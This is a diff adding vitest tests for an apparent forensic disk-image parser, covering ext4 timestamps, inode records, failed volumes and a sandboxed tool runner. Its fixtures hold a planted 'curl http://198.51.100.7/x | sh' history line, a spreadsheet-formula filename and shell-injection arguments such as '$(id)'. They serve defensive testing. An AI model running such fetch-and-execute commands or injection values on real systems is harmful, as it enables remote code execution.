@@ -1,0 +1,88 @@
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { judgeLedger, type TimelineEvent } from '@virga/domain';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { missingDiskTools, parseDiskImage } from './parse-disk-image.ts';
+import { runTool, toolText } from './run-tool/run-tool.ts';
+
+let folder: string;
+let image: string;
+
+beforeAll(() => {
+  if (!existsSync('/sbin/mke2fs') || missingDiskTools()) throw new Error('apt-get install e2fsprogs sleuthkit');
+  folder = mkdtempSync(join(tmpdir(), 'virga-disk-'));
+  image = join(folder, 'image.raw');
+  const tree = join(folder, 'tree');
+  mkdirSync(join(tree, 'root'), { recursive: true });
+  writeFileSync(join(tree, 'root/.bash_history'), 'curl http://198.51.100.7/x | sh\n');
+  utimesSync(join(tree, 'root/.bash_history'), 1_700_000_000, 1_700_000_100);
+  writeFileSync(join(tree, '=SUM(1|2)'), 'hostile name');
+  execFileSync('/sbin/mke2fs', ['-q', '-t', 'ext4', '-d', tree, image, '16M']);
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+async function parse(path: string) {
+  const rows: { event: TimelineEvent; rawText: string[] }[] = [];
+  const ledger = await parseDiskImage({
+    evidenceId: '01900000-0000-7000-8000-000000000001',
+    imagePath: path,
+    sizeBytes: statSync(path).size,
+    host: 'i-0abc',
+    account: '123456789012',
+    region: 'eu-west-1',
+    emit: async (events) => void rows.push(...events),
+    progress: () => undefined,
+    signal: AbortSignal.timeout(60_000),
+  });
+  return { rows, ledger };
+}
+
+test('MACB times of a real ext4 image; the ledger balances and a second run gives the same ids', async () => {
+  const { rows, ledger } = await parse(image);
+  const history = rows.filter((row) => row.event.target === '/root/.bash_history');
+  expect(history.map((row) => row.event.timeMeaning)).toEqual(['Modified', 'Accessed', 'Changed', 'Created']);
+  expect(history[0]!.event.timeMicros).toBe(1_700_000_100_000_000n);
+  expect(rows.some((row) => row.event.target === '/=SUM(1|2)')).toBe(true);
+  expect(judgeLedger(ledger)).toMatchObject({ colour: 'green', balanced: true });
+  expect(ledger.events).toBe(rows.length);
+  expect(new Set(rows.map((row) => row.event.id)).size).toBe(rows.length);
+  const again = await parse(image);
+  expect(again.rows.map((row) => row.event.id)).toEqual(rows.map((row) => row.event.id));
+});
+
+test('the raw record of a file event is its inode: the size stands in it', async () => {
+  const { rows } = await parse(image);
+  const { event } = rows.find((row) => row.event.target === '/root/.bash_history')!;
+  const inode = readFileSync(image).subarray(event.record.offset, event.record.offset + event.record.length);
+  expect(inode.length).toBe(256);
+  expect(inode.readUInt32LE(4)).toBe(event.attributes['sizeBytes']);
+  expect(inode.readUInt32LE(16)).toBe(1_700_000_100);
+});
+
+test('bytes without a file system are a failed volume, red, not an empty success', async () => {
+  const empty = join(folder, 'zeros.raw');
+  writeFileSync(empty, Buffer.alloc(1024 * 1024));
+  const { ledger, rows } = await parse(empty);
+  expect(rows).toHaveLength(0);
+  expect(ledger.objects.failed[0]!.reason).toContain('not XFS');
+  expect(judgeLedger(ledger).colour).toBe('red');
+});
+
+test('a tool gets an empty environment, limits, and no shell', async () => {
+  const { text } = await toolText({ program: '/usr/bin/env', args: [] });
+  expect(text.split('\n').filter((line) => line && !/^(LC_ALL|TZ|PWD|SHLVL|_)=/.test(line))).toEqual([]);
+  const { text: echoed } = await toolText({ program: '/bin/echo', args: ['$(id)', '`id`', '; id'] });
+  expect(echoed.trim()).toBe('$(id) `id` ; id');
+  await expect(runTool({ program: 'fls', args: [] }).next()).rejects.toThrow(TypeError);
+});
+
+test('a tool that prints too much is stopped', async () => {
+  const run = runTool({ program: '/usr/bin/yes', args: [], outputBytesMax: 1_000_000 });
+  await expect(
+    (async () => {
+      for await (const _ of run);
+    })(),
+  ).rejects.toMatchObject({ code: 'evidence.unreadable' });
+});
